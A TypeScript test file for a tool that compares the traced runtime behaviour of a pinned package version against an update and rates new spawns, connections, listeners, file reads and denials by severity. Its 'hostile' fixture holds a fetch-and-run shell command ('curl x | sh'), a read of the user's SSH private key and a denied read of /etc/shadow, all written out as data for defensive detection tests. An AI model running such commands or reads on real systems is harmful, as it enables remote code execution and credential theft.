import { describe, expect, it } from 'vitest';
import { assessBehaviourUpdate, compareBehaviour } from '../../../src/core/behaviour/compare-behaviour.js';
import { emptyBehaviour, type BehaviourRecord } from '../../../src/core/behaviour/record.js';

const traced = (extra: Partial<BehaviourRecord> = {}): BehaviourRecord => ({ ...emptyBehaviour('strace'), ...extra });
const pairs = (findings: Array<{ code: string; severity: string }>) => findings.map((f) => [f.code, f.severity]);

describe('compareBehaviour: what an update attempts that the pinned version did not', () => {
  const hostile = traced({
    spawns: [{ command: ['/bin/sh', '-c', 'curl x | sh'] }],
    connections: [{ address: '198.51.100.7:80' }],
    sockets: [{ address: '0.0.0.0:47123', listening: true, allInterfaces: true }],
    files: [
      { path: '${HOME}/.ssh/id_rsa', write: false, sensitive: 'ssh keys' },
      { path: '/var/lib/x', write: false },
    ],
  });

  it('a new spawn, destination and listening socket are high; a new file outside the tree medium', () => {
    expect(pairs(compareBehaviour('s@2', traced(), hostile))).toEqual([
      ['behaviour/spawn-added', 'high'],
      ['behaviour/destination-added', 'high'],
      ['behaviour/listener-added', 'high'],
      ['behaviour/file-added', 'medium'],
    ]);
  });

  it('what the pinned version already did is not new; secrets are not diffed (critical on every start)', () => {
    expect(compareBehaviour('s@2', hostile, hostile)).toEqual([]);
    const f = compareBehaviour('s@2', traced({ files: [{ path: '/var/lib/x', write: false }] }), hostile);
    expect(f.map((x) => x.code)).not.toContain('behaviour/file-added');
  });

  it('the same socket, now listening, is a new listener', () => {
    const bound = traced({ sockets: [{ address: '127.0.0.1:9000', listening: false, allInterfaces: false }] });
    const listening = traced({ sockets: [{ address: '127.0.0.1:9000', listening: true, allInterfaces: false }] });
    expect(pairs(compareBehaviour('s@2', bound, listening))).toEqual([['behaviour/listener-added', 'high']]);
  });

  it('a denial of a kind the pinned version never had is high, one per kind, with the resources', () => {
    const candidate = traced({
      denials: [
        { kind: 'child-process', resource: '/bin/sh' },
        { kind: 'file-read', resource: '/etc/shadow' },
        { kind: 'network', resource: '198.51.100.7:80' },
        { kind: 'network' },
      ],
    });
    const f = compareBehaviour('s@2', traced(), candidate);
    expect(f.map((x) => [x.code, x.severity, x.location?.name])).toEqual([
      ['behaviour/denial-added', 'high', 'child-process'],
      ['behaviour/denial-added', 'high', 'file-read'],
      ['behaviour/denial-added', 'high', 'network'],
    ]);
    expect(f[2]?.evidence?.['added']).toEqual([{ kind: 'network', resource: '198.51.100.7:80' }, { kind: 'network' }]);
  });

  it('a new resource of a kind the pinned version was already denied is medium; the same denials nothing', () => {
    const pinned = traced({ denials: [{ kind: 'network', resource: '203.0.113.1:443' }] });
    const candidate = traced({ denials: [{ kind: 'network', resource: '198.51.100.7:80' }] });
    expect(pairs(compareBehaviour('s@2', pinned, candidate))).toEqual([['behaviour/denial-resource-added', 'medium']]);
    expect(compareBehaviour('s@2', pinned, pinned)).toEqual([]);
  });

  it('records of different tracers: an info finding, only denials compared', () => {
    const untraced = { ...emptyBehaviour('permission-denials'), denials: [{ kind: 'child-process' as const }] };
    expect(pairs(compareBehaviour('s@2', traced(), untraced))).toEqual([
      ['behaviour/tracer-differs', 'info'],
      ['behaviour/denial-added', 'high'],
    ]);
    // a traced candidate is not "all new" next to a denial-only pin
    expect(pairs(compareBehaviour('s@2', emptyBehaviour('permission-denials'), hostile))).toEqual([
      ['behaviour/tracer-differs', 'info'],
    ]);
  });

  it('with no pinned record (an older pin): one info finding, nothing flagged as new', () => {
    expect(pairs(assessBehaviourUpdate('s@2', undefined, hostile))).toEqual([['behaviour/no-baseline', 'info']]);
    expect(pairs(assessBehaviourUpdate('s@2', traced(), hostile))).toEqual(
      pairs(compareBehaviour('s@2', traced(), hostile)),
    );
  });
});
